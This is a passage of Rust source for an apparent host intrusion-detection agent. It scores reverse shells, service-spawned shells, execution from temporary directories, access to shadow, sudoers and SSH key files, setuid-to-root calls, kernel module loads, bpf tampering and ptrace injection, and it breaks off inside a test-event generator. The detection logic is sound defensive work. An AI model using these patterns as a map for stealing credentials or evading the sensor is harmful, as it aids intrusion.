        let pname =
            if n > 0 && anc[0].pid == e.proc.ppid { node_text(&anc[0]) } else { format!("pid {}", e.proc.ppid) };
        let chain = chain_text(&anc[..n]);
        let to = match dst {
            Some(d) => format!("{d}:{port}"),
            None => "a remote address".to_owned(),
        };
        let reason = match shape {
            Shape::SamePid => format!(
                "pid {} connected to {to} and {gap:.3} s later replaced itself with the shell `{shell}`; ancestry: {chain}",
                e.proc.pid
            ),
            _ => format!(
                "the shell `{shell}` (pid {}) was started by {pname} {gap:.3} s after {pname} connected to {to}; \
                 ancestry: {chain}",
                e.proc.pid
            ),
        };
        let mut ent = entities(&e.proc, e.filename.as_bytes());
        ent.dst = dst;
        ent.port = dst.map(|_| port);
        let sev = if conf >= 0.5 { Severity::High } else { Severity::Medium };
        let w = ns_secs(self.window_ns);
        out.emit(Finding::new(
            Self::NAME,
            "reverse_shell",
            e.ts_ns,
            conf,
            sev,
            "T1059.004",
            ent,
            evidence("connect_to_shell_s", gap, w, w, 1),
            reason,
        ));
    }

    #[allow(clippy::too_many_arguments, reason = "one finding, every detail named")]
    fn emit_sibling(
        &mut self,
        ts: u64,
        actor: &Proc,
        shell_pid: u32,
        exe: &[u8],
        argv: &[u8],
        c: &ChildrenState,
        gap: f64,
        out: &mut Emitter<'_>,
    ) {
        if !self.allow_reverse(c.connect_pid, 0.8, ts) {
            return;
        }
        let to = match c.connect_addr {
            Some(d) => format!("{d}:{}", c.connect_port),
            None => "a remote address".to_owned(),
        };
        let shell = if argv.is_empty() { "an interactive shell".to_owned() } else { names::argv_text(argv, 60) };
        let reason = format!(
            "the interactive shell `{shell}` (pid {shell_pid}) and its sibling pid {} were started side by side by pid {}, \
             and pid {} connected to {to} within {gap:.3} s (a shell piped through a network tool)",
            c.connect_pid, actor.ppid, c.connect_pid
        );
        let mut ent = entities(actor, exe);
        ent.pid = Some(shell_pid);
        ent.dst = c.connect_addr;
        ent.port = c.connect_addr.map(|_| c.connect_port);
        let w = ns_secs(self.window_ns);
        out.emit(Finding::new(
            Self::NAME,
            "reverse_shell",
            ts,
            0.8,
            Severity::High,
            "T1059.004",
            ent,
            evidence("shell_and_connect_gap_s", gap, w, w, 2),
            reason,
        ));
    }

    fn find_service(&self, anc: &[ProcNode]) -> Option<(usize, ServiceWhy)> {
        for (i, a) in anc.iter().enumerate().take(self.cfg.service_depth) {
            let n = NodeName::of(a);
            if self.lists.login.matches(n) {
                return None;
            }
            let own = self.pids.get(a.pid);
            let why = match own {
                Some(s) if s.accepted_ip => Some(ServiceWhy::AcceptedIp),
                _ if self.lists.services.matches(n) => Some(ServiceWhy::Named),
                Some(s) if s.accepted => Some(ServiceWhy::Accepted),
                _ if a.flags & proc_flag::ACCEPTED != 0 => Some(ServiceWhy::Accepted),
                _ => None,
            };
            if let Some(w) = why {
                return Some((i + 1, w));
            }
            if self.lists.shells.matches(n) {
                // The shell above is the one started by a service, if any.
                return None;
            }
        }
        None
    }

    fn service_shell(&mut self, e: &ExecInfo, image: Image, cx: &Context, out: &mut Emitter<'_>) {
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, e.proc.pid, self.cfg.service_depth, &mut anc);
        // The context holds this exec already: ancestry starts at the parent.
        let anc = &anc[..n];
        let Some((depth, why)) = self.find_service(anc) else { return };
        let svc = &anc[depth - 1];
        let strong = match image {
            Image::Shell(a) => a.mode != ShellMode::Script,
            Image::Interpreter(inline) => inline,
            Image::Script | Image::Other => false,
        };
        // A weak finding (a CGI script) does not hold off a strong one about the same service.
        if !self.allow(ck::SERVICE, u64::from(svc.pid) << 1 | u64::from(strong), e.ts_ns) {
            return;
        }
        let startup = why == ServiceWhy::Named
            && svc.flags & proc_flag::SEEDED == 0
            && e.ts_ns.saturating_sub(svc.exec_ns) <= self.startup_ns;
        let mut conf: f32 = if depth == 1 { 0.85 } else { 0.75 };
        if why == ServiceWhy::Accepted {
            conf -= 0.15;
        }
        if !strong {
            conf = 0.45;
        }
        if startup {
            conf = conf.min(0.4);
        }
        let svc_name = NodeName::of(svc);
        let web =
            self.lists.web.matches(svc_name) || (why != ServiceWhy::Named && self.lists.interpreters.matches(svc_name));
        let technique = if web { "T1505.003" } else { "T1059.004" };
        let what = match why {
            ServiceWhy::AcceptedIp => "which accepts network connections",
            ServiceWhy::Named => "a network service",
            ServiceWhy::Accepted => "which accepts connections",
        };
        let child = names::argv_text(e.argv.as_bytes(), 80);
        let via = if depth > 1 { format!(" via {}", chain_text(&anc[..depth - 1])) } else { String::new() };
        let mut reason = format!(
            "`{child}` ({}, pid {}) was started by {}{via}, {what}",
            names::text(basename(e.filename.as_bytes()), 48),
            e.proc.pid,
            node_text(svc)
        );
        if startup {
            reason.push_str(&format!(", {:.1} s after the service started", gap_s(e.ts_ns, svc.exec_ns)));
        }
        let sev = if conf >= 0.5 { Severity::High } else { Severity::Low };
        out.emit(Finding::new(
            Self::NAME,
            "service_spawned_shell",
            e.ts_ns,
            conf,
            sev,
            technique,
            entities(&e.proc, e.filename.as_bytes()),
            evidence("service_depth", depth as f64, self.cfg.service_depth as f64, 0.0, 1),
            reason,
        ));
    }

    fn build_ancestry(&self, pid: u32, cx: &Context, levels: usize) -> bool {
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, pid, levels, &mut anc);
        anc[..n].iter().any(|a| self.lists.build.matches(NodeName::of(a)))
    }

    fn exec_from_temp(
        &mut self,
        e: &ExecInfo,
        image: Image,
        parent: Option<&ProcNode>,
        cx: &Context,
        out: &mut Emitter<'_>,
    ) {
        let file = e.filename.as_bytes();
        let argv = e.argv.as_bytes();
        let (path, script) = if self.in_temp(file) {
            (file, false)
        } else {
            let s = match image {
                Image::Shell(a) => a.script.and_then(|i| names::arg(argv, i)),
                Image::Interpreter(false) => names::args(argv).skip(1).find(|a| a.first() != Some(&b'-')),
                _ => None,
            };
            match s {
                Some(s) if self.in_temp(s) => (s, true),
                _ => return,
            }
        };
        let name = basename(path);
        let parent_build = parent.is_some_and(|p| self.lists.build.matches(NodeName::of(p)));
        if parent_build
            || (BUILD_MARKERS.iter().any(|m| path.windows(m.len()).any(|w| w == *m))
                && self.build_ancestry(e.proc.pid, cx, self.cfg.service_depth))
        {
            // A build tool's own outputs (go run, cargo in /tmp, rustdoc's doctests).
            return;
        }
        if !self.allow(ck::TEMP, u64::from(e.proc.pid), e.ts_ns) {
            return;
        }
        let hidden = self.lists.temp.find(path).is_some_and(|pre| {
            path[pre.len().min(path.len())..].split(|b| *b == b'/').any(|c| c.first() == Some(&b'.'))
        });
        let shm = has_prefix(path, b"/dev/shm/") || has_prefix(path, b"/run/shm/");
        let l = &self.lists;
        let lookalike = !script
            && (l.lookalikes.has(name)
                || l.services.has(name)
                || l.login.has(name)
                || l.elevation.has(name)
                || l.shells.has(name));
        let mut conf: f32 = if script { 0.45 } else { 0.6 };
        if hidden {
            conf += 0.1;
        }
        if shm {
            conf += 0.1;
        }
        if lookalike {
            conf += 0.1;
        }
        let conf = conf.min(0.85);
        let technique = if lookalike { "T1036.005" } else { "T1204.002" };
        let sev = if conf >= 0.5 { Severity::Medium } else { Severity::Low };
        let pname = parent.map_or_else(|| format!("pid {}", e.proc.ppid), node_text);
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, e.proc.pid, 3, &mut anc);
        let chain = chain_text(&anc[..n]);
        let mut reason = if script {
            format!(
                "`{}` (pid {}) ran the script {} from a temporary directory, started by {pname}",
                names::argv_text(argv, 60),
                e.proc.pid,
                names::text(path, 120)
            )
        } else {
            format!(
                "{} (pid {}) was executed from a temporary directory by {pname}",
                names::text(path, 160),
                e.proc.pid
            )
        };
        if hidden {
            reason.push_str("; the path is hidden");
        }
        if lookalike {
            reason.push_str("; the name imitates a system program");
        }
        reason.push_str("; ancestry: ");
        reason.push_str(&chain);
        out.emit(Finding::new(
            Self::NAME,
            "exec_from_temp",
            e.ts_ns,
            conf,
            sev,
            technique,
            entities(&e.proc, file),
            evidence("exec_from_temp", 1.0, 1.0, 0.0, 1),
            reason,
        ));
    }

    fn learned(&mut self, ts: u64) -> bool {
        if self.learn_complete {
            return true;
        }
        if self.learn_last_ns != 0 && ts > self.learn_last_ns {
            self.learned_ns = self.learned_ns.saturating_add((ts - self.learn_last_ns).min(LEARN_STEP_MAX_NS));
        }
        if ts > self.learn_last_ns {
            self.learn_last_ns = ts;
        }
        if self.learned_ns >= self.learn_ns {
            self.learn_complete = true;
        }
        self.learn_complete
    }

    fn rare_pair(&mut self, e: &ExecInfo, image: Image, parent: Option<&ProcNode>, out: &mut Emitter<'_>) {
        let Some(par) = parent else { return };
        let pn = NodeName::of(par);
        let pname = names::stable_name(pn.name);
        let cname = names::stable_name(basename(e.filename.as_bytes()));
        if pname.is_empty() || cname.is_empty() {
            return;
        }
        let learned = self.learned(e.ts_ns);
        let before = self.pairs.add(pname, cname, 1, e.ts_ns);
        if !learned || before >= self.cfg.rare_min_count {
            return;
        }
        if !self.allow(ck::RARE, state::pair_key(pname, cname), e.ts_ns) {
            return;
        }
        let signal = image.shell_like() || self.in_temp(e.filename.as_bytes());
        let conf = if signal { 0.4 } else { 0.3 };
        let technique = if image.shell_like() { "T1059" } else { "T1204" };
        let reason = format!(
            "{} (pid {}) started {} (pid {}), a parent/child pair seen {before} time(s) in the baseline of {} pairs",
            names::text(pn.name, 48),
            par.pid,
            names::text(e.filename.as_bytes(), 120),
            e.proc.pid,
            self.pairs.len()
        );
        out.emit(Finding::new(
            Self::NAME,
            "rare_parent_child",
            e.ts_ns,
            conf,
            Severity::Low,
            technique,
            entities(&e.proc, e.filename.as_bytes()),
            evidence("pair_count", f64::from(before), f64::from(self.cfg.rare_min_count), self.cfg.rare_learn_s, 1),
            reason,
        ));
    }

    // ---- sockets ---------------------------------------------------------------------

    fn counts(&self, ip: &IpAddr, port: u16) -> bool {
        if ip.is_unspecified() || ip.is_multicast() {
            return false;
        }
        if !self.cfg.reverse_shell_loopback && is_loopback(ip) {
            return false;
        }
        !self.cfg.reverse_shell_ignore_ports.contains(&port)
    }

    fn on_sock(&mut self, s: &SockInfo, cx: &Context, out: &mut Emitter<'_>) {
        let ts = s.ts_ns;
        let pid = s.proc.pid;
        if s.accept {
            let st = self.pids.entry(pid, ts);
            st.accepted = true;
            st.accepted_ip |= s.remote.is_some();
            return;
        }
        let Some(ip) = s.remote else { return };
        let known = self.pids.get(pid).is_some();
        let counts = self.counts(&ip, s.port);
        let st = self.pids.entry(pid, ts);
        st.any_connect_ns = ts.max(1);
        if !counts {
            return;
        }
        st.connect_ns = ts.max(1);
        st.connect_addr = Some(ip);
        st.connect_port = s.port;
        let st = *st;
        let w = self.window_ns;
        // (b) a shell that connects right after its exec.
        let node = cx.process(pid);
        let shell = if st.shell_ns != 0 {
            Some((st.shell_ns, st.shell_mode.unwrap_or(ShellMode::Unknown), true))
        } else if !known {
            // Not seen here (evicted): the context still knows the image.
            node.as_ref()
                .filter(|n| {
                    let nn = NodeName::of(n);
                    if n.flags & proc_flag::SEEDED != 0 {
                        // Its exec time is unknown.
                        return false;
                    }
                    self.lists.shells.matches(nn) && !has_prefix(nn.name, b"busybox")
                })
                .map(|n| (n.exec_ns, ShellMode::Unknown, false))
        } else {
            None
        };
        if let Some((at, mode, seen)) = shell.filter(|(at, _, _)| *at != 0 && near(ts, *at, w)) {
            let conf: f32 = match (mode, seen) {
                (_, false) => 0.7,
                (ShellMode::Command, _) => 0.8,
                (ShellMode::Script, _) => 0.5,
                (ShellMode::Interactive | ShellMode::Unknown, _) => 0.9,
            };
            if self.allow_reverse(pid, conf, ts) {
                let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
                let name = Self::node_name(node.as_ref(), &s.proc);
                let mut anc = [ProcNode::default(); MAX_ANCESTRY];
                let n = ancestors(cx, pid, 3, &mut anc);
                let how = match (mode, seen) {
                    (_, false) => "",
                    (ShellMode::Command, _) => ", running a -c command,",
                    (ShellMode::Script, _) => ", running a script,",
                    (ShellMode::Interactive, _) => ", interactive,",
                    (ShellMode::Unknown, _) => "",
                };
                let reason = format!(
                    "the shell {} (pid {pid}){how} connected to {ip}:{} {:.3} s after it started; ancestry: {}",
                    names::text(name.name, 48),
                    s.port,
                    gap_s(ts, at),
                    chain_text(&anc[..n])
                );
                let mut ent = entities(&s.proc, exe);
                ent.dst = Some(ip);
                ent.port = Some(s.port);
                let sev = if conf >= 0.5 { Severity::High } else { Severity::Medium };
                let wsec = ns_secs(w);
                out.emit(Finding::new(
                    Self::NAME,
                    "reverse_shell",
                    ts,
                    conf,
                    sev,
                    "T1059.004",
                    ent,
                    evidence("shell_to_connect_s", gap_s(ts, at), wsec, wsec, 1),
                    reason,
                ));
            }
            return;
        }
        // (c) a sibling `-i` shell.
        let ppid = s.proc.ppid;
        if ppid == 0 || ppid == pid {
            return;
        }
        let c = self.children.entry(ppid, ts);
        c.connect_ns = ts.max(1);
        c.connect_pid = pid;
        c.connect_addr = Some(ip);
        c.connect_port = s.port;
        let c = *c;
        if c.shell_ns != 0 && c.shell_pid != pid && near(ts, c.shell_ns, w) {
            let shell_node = cx.process(c.shell_pid);
            let exe = shell_node.as_ref().map(ProcNode::exe).unwrap_or_default();
            let shell_proc = Proc { pid: c.shell_pid, ..s.proc };
            self.emit_sibling(ts, &shell_proc, c.shell_pid, exe, b"", &c, ns_secs(ts.abs_diff(c.shell_ns)), out);
        }
    }

    // ---- files -----------------------------------------------------------------------

    fn file_kind(&self, path: &[u8]) -> Option<FileKind> {
        let l = &self.lists;
        if l.authorized_keys.contains(path) {
            Some(FileKind::AuthorizedKeys)
        } else if l.shadow.contains(path) {
            Some(FileKind::Shadow)
        } else if l.sudoers.contains(path) {
            Some(FileKind::Sudoers)
        } else if l.ssh_keys.contains(path) {
            Some(FileKind::SshKeys)
        } else if l.account.contains(path) {
            Some(FileKind::Account)
        } else {
            None
        }
    }

    fn on_open(&mut self, o: &OpenInfo, cx: &Context, out: &mut Emitter<'_>) {
        let path = o.filename.as_bytes();
        if path.first() != Some(&b'/') {
            return;
        }
        let Some(fk) = self.file_kind(path) else { return };
        let write = o.flags & O_WRITE != 0;
        let base = basename(path);
        let private_key = (has_prefix(base, b"id_") || has_prefix(base, b"ssh_host_"))
            && !base.ends_with(b".pub")
            && !base.ends_with(b"-cert");
        let (conf, sev, technique, what): (f32, Severity, &'static str, &str) = match (fk, write) {
            (FileKind::Shadow, false) => (0.65, Severity::Medium, "T1003.008", "read the password hashes in"),
            (FileKind::Shadow, true) => (0.8, Severity::High, "T1098", "opened for writing the password hashes in"),
            (FileKind::Sudoers, false) => (0.35, Severity::Low, "T1548.003", "read the sudo policy"),
            (FileKind::Sudoers, true) => (0.85, Severity::High, "T1548.003", "opened for writing the sudo policy"),
            (FileKind::AuthorizedKeys, false) => (0.3, Severity::Low, "T1098.004", "read the SSH authorized keys"),
            (FileKind::AuthorizedKeys, true) => {
                (0.85, Severity::High, "T1098.004", "opened for writing the SSH authorized keys")
            }
            (FileKind::SshKeys, false) if private_key => {
                (0.6, Severity::Medium, "T1552.004", "read the SSH private key")
            }
            (FileKind::SshKeys, false) => return,
            (FileKind::SshKeys, true) if base == b"known_hosts" || base == b"known_hosts.old" => return,
            (FileKind::SshKeys, true) => (0.6, Severity::Medium, "T1098.004", "opened for writing the SSH file"),
            (FileKind::Account, false) => return,
            (FileKind::Account, true) => (0.8, Severity::High, "T1136.001", "opened for writing the account file"),
        };
        let node = cx.process(o.proc.pid);
        let name = Self::node_name(node.as_ref(), &o.proc);
        if self.lists.file_allow.matches(name) && self.trusted(node.as_ref()) {
            return;
        }
        let key = u64::from(o.proc.pid) << 8 | (fk as u64) << 1 | u64::from(write);
        if !self.allow(ck::FILE, key, o.ts_ns) {
            return;
        }
        let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
        let mut conf = conf;
        if node.as_ref().is_some_and(|n| self.in_temp(n.exe())) {
            conf = (conf + 0.1).min(0.95);
        }
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, o.proc.pid, 3, &mut anc);
        let reason = format!(
            "{} (pid {}, uid {}) {what} {}; ancestry: {}",
            names::text(name.name, 48),
            o.proc.pid,
            o.proc.uid,
            names::text(path, 120),
            chain_text(&anc[..n])
        );
        out.emit(Finding::new(
            Self::NAME,
            "sensitive_file_access",
            o.ts_ns,
            conf,
            sev,
            technique,
            entities(&o.proc, exe),
            evidence("open_flags", f64::from(o.flags), 0.0, 0.0, 1),
            reason,
        ));
    }

    // ---- syscalls --------------------------------------------------------------------

    fn on_syscall(&mut self, s: &SyscallInfo, cx: &Context, out: &mut Emitter<'_>) {
        match s.kind {
            SyscallKind::SetId => self.on_setid(s, cx, out),
            SyscallKind::ModuleLoad => self.on_module(s, cx, out),
            SyscallKind::Bpf => self.on_bpf(s, cx, out),
            SyscallKind::Ptrace => self.on_ptrace(s, cx, out),
        }
    }

    fn actor_reason(&self, p: &Proc, node: Option<&ProcNode>, cx: &Context) -> String {
        let name = Self::node_name(node, p);
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, p.pid, 3, &mut anc);
        format!("{} (pid {}, uid {}; ancestry: {})", names::text(name.name, 48), p.pid, p.uid, chain_text(&anc[..n]))
    }

    fn on_setid(&mut self, s: &SyscallInfo, cx: &Context, out: &mut Emitter<'_>) {
        let (uid_family, nargs, call) = match s.nr {
            105 => (true, 1, "setuid"),
            113 => (true, 2, "setreuid"),
            117 => (true, 3, "setresuid"),
            122 => (true, 1, "setfsuid"),
            106 => (false, 1, "setgid"),
            114 => (false, 2, "setregid"),
            119 => (false, 3, "setresgid"),
            123 => (false, 1, "setfsgid"),
            _ => return,
        };
        if s.proc.uid == 0 {
            return;
        }
        let to_root = s.args.iter().take(nargs).any(|a| (*a as u32) == 0);
        if !to_root {
            return;
        }
        let node = cx.process(s.proc.pid);
        let name = Self::node_name(node.as_ref(), &s.proc);
        if self.lists.elevation.matches(name) && self.trusted(node.as_ref()) {
            return;
        }
        if !self.allow(ck::PRIV, u64::from(s.proc.pid) << 1 | u64::from(uid_family), s.ts_ns) {
            return;
        }
        let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
        let risky = self.in_temp(exe) || self.lists.shells.matches(name) || self.lists.interpreters.matches(name);
        let (conf, sev) = match (uid_family, risky) {
            (true, true) => (0.9, Severity::High),
            (true, false) => (0.8, Severity::High),
            (false, _) => (0.5, Severity::Medium),
        };
        let mut args = String::new();
        for (i, a) in s.args.iter().take(nargs).enumerate() {
            if i > 0 {
                args.push_str(", ");
            }
            let v = *a as u32;
            if v == u32::MAX {
                args.push_str("-1");
            } else {
                args.push_str(&v.to_string());
            }
        }
        let reason = format!(
            "{} called {call}({args}) to become {} 0 from uid {}; it is not an expected elevation path",
            self.actor_reason(&s.proc, node.as_ref(), cx),
            if uid_family { "uid" } else { "gid" },
            s.proc.uid
        );
        out.emit(Finding::new(
            Self::NAME,
            "privilege_escalation",
            s.ts_ns,
            conf,
            sev,
            "T1068",
            entities(&s.proc, exe),
            evidence("syscall_nr", f64::from(s.nr), 0.0, 0.0, 1),
            reason,
        ));
    }

    fn on_module(&mut self, s: &SyscallInfo, cx: &Context, out: &mut Emitter<'_>) {
        let node = cx.process(s.proc.pid);
        let name = Self::node_name(node.as_ref(), &s.proc);
        let parent = cx.process(s.proc.ppid);
        let kernel_parent = s.proc.ppid == 2
            || parent.as_ref().is_some_and(|p| {
                let n = NodeName::of(p);
                n.name == b"kthreadd" || has_prefix(n.name, b"kworker")
            });
        let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
        let loader = self.lists.loaders.matches(name) && self.trusted(node.as_ref());
        let (conf, sev) = if self.in_temp(exe) {
            (0.9, Severity::High)
        } else if !loader {
            (0.8, Severity::High)
        } else if kernel_parent {
            (0.4, Severity::Low)
        } else {
            (0.6, Severity::Medium)
        };
        if !self.allow(ck::MODULE, u64::from(s.proc.pid), s.ts_ns) {
            return;
        }
        let call = if s.nr == 175 { "init_module" } else { "finit_module" };
        let how = if kernel_parent && loader {
            "on the kernel's request (automatic module loading)"
        } else if loader {
            "with a module loader"
        } else {
            "and it is not a module loader"
        };
        let reason = format!("{} loaded a kernel module ({call}) {how}", self.actor_reason(&s.proc, node.as_ref(), cx));
        out.emit(Finding::new(
            Self::NAME,
            "kernel_module_load",
            s.ts_ns,
            conf,
            sev,
            "T1547.006",
            entities(&s.proc, exe),
            evidence("syscall_nr", f64::from(s.nr), 0.0, 0.0, 1),
            reason,
        ));
    }

    fn on_bpf(&mut self, s: &SyscallInfo, cx: &Context, out: &mut Emitter<'_>) {
        let node = cx.process(s.proc.pid);
        let name = Self::node_name(node.as_ref(), &s.proc);
        if self.lists.bpf_allow.matches(name) && self.trusted(node.as_ref()) {
            return;
        }
        let cmd = s.args[0];
        let touches = bpf_touches_existing(cmd);
        // One finding per process per hold-off, and another when it reaches existing objects.
        if !self.allow(ck::BPF, u64::from(s.proc.pid) << 1 | u64::from(touches), s.ts_ns) {
            return;
        }
        let conf = if touches { 0.8 } else { 0.7 };
        let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
        let reason = format!(
            "{} called bpf({}){}",
            self.actor_reason(&s.proc, node.as_ref(), cx),
            bpf_cmd_name(cmd),
            if touches { ", which reaches eBPF objects that already exist" } else { "" }
        );
        out.emit(Finding::new(
            Self::NAME,
            "sensor_tamper_bpf",
            s.ts_ns,
            conf,
            Severity::High,
            "T1562.001",
            entities(&s.proc, exe),
            evidence("bpf_cmd", cmd as f64, 0.0, 0.0, 1),
            reason,
        ));
    }

    fn on_ptrace(&mut self, s: &SyscallInfo, cx: &Context, out: &mut Emitter<'_>) {
        const ATTACH: u64 = 16;
        const SEIZE: u64 = 0x4206;
        let req = s.args[0];
        let write = matches!(req, 4..=6 | 13 | 15 | 0x4205);
        if !(write || req == ATTACH || req == SEIZE) {
            return;
        }
        let Ok(target) = u32::try_from(s.args[1] as i64) else { return };
        if target == 0 || target == s.proc.pid {
            return;
        }
        let node = cx.process(s.proc.pid);
        let name = Self::node_name(node.as_ref(), &s.proc);
        if self.lists.debuggers.matches(name) && self.trusted(node.as_ref()) {
            return;
        }
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, target, MAX_ANCESTRY, &mut anc);
        let descendant = anc[..n].iter().any(|a| a.pid == s.proc.pid);
        let (conf, sev): (f32, Severity) = match (descendant, write) {
            (true, _) => (0.3, Severity::Low),
            (false, false) => (0.55, Severity::Medium),
            (false, true) => (0.7, Severity::Medium),
        };
        if !self.allow(ck::PTRACE, u64::from(s.proc.pid) << 33 | u64::from(target) << 1 | u64::from(write), s.ts_ns) {
            return;
        }
        let tnode = cx.process(target);
        let tname = tnode.as_ref().map_or_else(|| format!("pid {target}"), node_text);
        let exe = node.as_ref().map(ProcNode::exe).unwrap_or_default();
        let what = if write { "wrote into the memory or registers of" } else { "attached to" };
        let reason = format!(
            "{} {what} {tname}{}",
            self.actor_reason(&s.proc, node.as_ref(), cx),
            if descendant { ", its own descendant" } else { ", which it did not start" }
        );
        out.emit(Finding::new(
            Self::NAME,
            "ptrace",
            s.ts_ns,
            conf,
            sev,
            "T1055.008",
            entities(&s.proc, exe),
            evidence("ptrace_request", req as f64, 0.0, 0.0, 1),
            reason,
        ));
    }
}

/// The persisted baseline of parent/child pairs.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
struct SavedBaseline {
    #[serde(default)]
    version: u32,
    /// Seconds of event time learned.
    #[serde(default)]
    learned_s: f64,
    /// Whether learning was over (a baseline without this field counts as complete).
    #[serde(default = "yes")]
    complete: bool,
    /// (parent, child, count).
    #[serde(default)]
    pairs: Vec<(String, String, u32)>,
}

fn yes() -> bool {
    true
}

impl Agent for ProcessAgent {
    const NAME: &'static str = "process";
    const INTEREST: u16 = kind::EXEC | kind::EXIT | kind::SOCK | kind::OPEN | kind::SYSCALL;
    type Config = ProcessConfig;

    fn new(cfg: &Self::Config) -> Self {
        Self {
            lists: Lists::new(cfg),
            window_ns: secs_ns(cfg.reverse_shell_window_s),
            startup_ns: secs_ns(cfg.service_startup_s),
            hold_ns: secs_ns(cfg.cooldown_s),
            pids: PidTable::new(cfg.max_pids.clamp(1, MAX_PIDS_CAP)),
            children: PidTable::new((cfg.max_pids / 4).clamp(64, MAX_PIDS_CAP)),
            pairs: PairTable::new(cfg.rare_max_pairs.clamp(1, MAX_PAIRS_CAP)),
            learn_ns: secs_ns(cfg.rare_learn_s),
            learned_ns: 0,
            learn_last_ns: 0,
            learn_complete: false,
            cooldown: Cooldown::new(4096, cfg.cooldown_s),
            cfg: cfg.clone(),
        }
    }

    /// The agent aggregates on the whole process tree (parent/child baseline, a parent's
    /// connect before a child's exec), so one instance owns every process event.
    fn shard_key(_ev: &Event) -> u64 {
        0
    }

    fn on_event(&mut self, ev: &Event, cx: &Context, out: &mut Emitter<'_>) {
        match ev {
            Event::Exec(e) => self.on_exec(e, cx, out),
            Event::Exit { proc, .. } => {
                self.pids.remove(proc.pid);
                self.children.remove(proc.pid);
            }
            Event::Sock(s) => self.on_sock(s, cx, out),
            Event::Open(o) => self.on_open(o, cx, out),
            Event::Syscall(s) => self.on_syscall(s, cx, out),
            _ => {}
        }
    }

    fn save(&self) -> Option<serde_json::Value> {
        let saved = SavedBaseline {
            version: 1,
            learned_s: ns_secs(self.learned_ns),
            complete: self.learn_complete,
            pairs: self
                .pairs
                .iter()
                .map(|(p, c, n)| (String::from_utf8_lossy(p).into_owned(), String::from_utf8_lossy(c).into_owned(), n))
                .collect(),
        };
        serde_json::to_value(saved).ok()
    }

    fn load(&mut self, state: &serde_json::Value) {
        let Ok(saved) = serde_json::from_value::<SavedBaseline>(state.clone()) else { return };
        for (p, c, n) in &saved.pairs {
            if !p.is_empty() && !c.is_empty() {
                self.pairs.add(p.as_bytes(), c.as_bytes(), *n, 0);
            }
        }
        self.learned_ns = self.learned_ns.max(secs_ns(saved.learned_s));
        self.learn_complete |= saved.complete || self.learned_ns >= self.learn_ns;
    }
}

// ---- streams for tests and benchmarks ------------------------------------------------

fn comm_of(path: &str) -> [u8; 16] {
    let mut c = [0u8; 16];
    let n = basename(path.as_bytes());
    let k = n.len().min(15);
    c[..k].copy_from_slice(&n[..k]);
    c
}

/// An exec event of `path` with the arguments `argv` (tests and benchmarks).
#[doc(hidden)]
pub fn exec_event(ts_ns: u64, pid: u32, ppid: u32, uid: u32, path: &str, argv: &[&str]) -> Event {
    let mut a = Vec::new();
    for (i, s) in argv.iter().enumerate() {
        if i > 0 {
            a.push(0);
        }
        a.extend_from_slice(s.as_bytes());
    }
    Event::Exec(ExecInfo {
        ts_ns,
        proc: Proc { pid, ppid, uid, gid: uid, cgroup_id: 0, comm: comm_of(path) },
        filename: Text::new(path.as_bytes()),
        argv: Text::new(&a),
    })
}

/// A connect (or, with `accept`, an accept) event (tests and benchmarks).
#[doc(hidden)]
pub fn sock_event(
    ts_ns: u64,
    pid: u32,
    ppid: u32,
    comm: &str,
    remote: Option<IpAddr>,
    port: u16,
    accept: bool,
) -> Event {
    Event::Sock(SockInfo {
        ts_ns,
        proc: Proc { pid, ppid, uid: 0, gid: 0, cgroup_id: 0, comm: comm_of(comm) },
        remote,
        port,
        accept,
    })
}

/// An exit event (tests and benchmarks).
#[doc(hidden)]
pub fn exit_event(ts_ns: u64, pid: u32, ppid: u32) -> Event {
    Event::Exit { ts_ns, proc: Proc { pid, ppid, ..Proc::default() } }
}

/// A realistic stream of `n` process events in the steady state: a developer's machine
/// building and testing a crate over and over (bash -> cargo -> rustc -> cc -> ld, build
/// scripts and test binaries under target/, cargo fetching from a registry, git), sshd
/// accepting a login, PAM reading /etc/shadow from sshd, sudo switching to root and systemd
/// calling bpf(). Event time spans more than an hour so that rare-pair learning ends within
/// the first half of the stream; after that nothing is new.
#[doc(hidden)]
pub fn steady_events(n: usize) -> Vec<Event> {
    const CYCLE: usize = 40;
    // The first half of the stream spans 4000 s: learning (3600 s) ends within it.
    let step = (8_000_000_000_000u64 / n.max(1) as u64).clamp(1_000_000, 120_000_000_000);
    let mut out = Vec::with_capacity(n);
    let mut ts = 1_000_000_000u64;
    let registry: IpAddr = IpAddr::V4(Ipv4Addr::new(151, 101, 0, 137));
    let client: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10));
    let mut round = 0u32;
    while out.len() < n {
        let base = 10_000 + (round % 1000) * 20;
        let (sh, cargo, rustc, cc, ld, bs, test, git) =
            (base, base + 1, base + 2, base + 3, base + 4, base + 5, base + 6, base + 7);
        let toolchain = "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin";
        let hash = if round.is_multiple_of(2) { "1a2b3c4d5e6f7a8b" } else { "9f8e7d6c5b4a3f2e" };
        let test_path = format!("/work/proj/target/debug/deps/proj-{hash}");
        let cycle: Vec<Event> = vec![
            sock_event(0, 800, 1, "sshd", Some(client), 50_000, true),
            exec_event(0, sh, 800, 0, "/usr/bin/bash", &["-bash"]),
            exec_event(0, cargo, sh, 0, "/root/.cargo/bin/cargo", &["cargo", "test"]),
            exec_event(0, cargo, sh, 0, &format!("{toolchain}/cargo"), &["cargo", "test"]),
            sock_event(0, cargo, sh, "cargo", Some(registry), 443, false),
            sock_event(0, cargo, sh, "cargo", Some(IpAddr::V4(Ipv4Addr::new(127, 0, 0, 53))), 53, false),
            exec_event(0, rustc, cargo, 0, &format!("{toolchain}/rustc"), &["rustc", "-vV"]),
            exit_event(0, rustc, cargo),
            exec_event(
                0,
                rustc,
                cargo,
                0,
                &format!("{toolchain}/rustc"),
                &["rustc", "--crate-name", "build_script_build"],
            ),
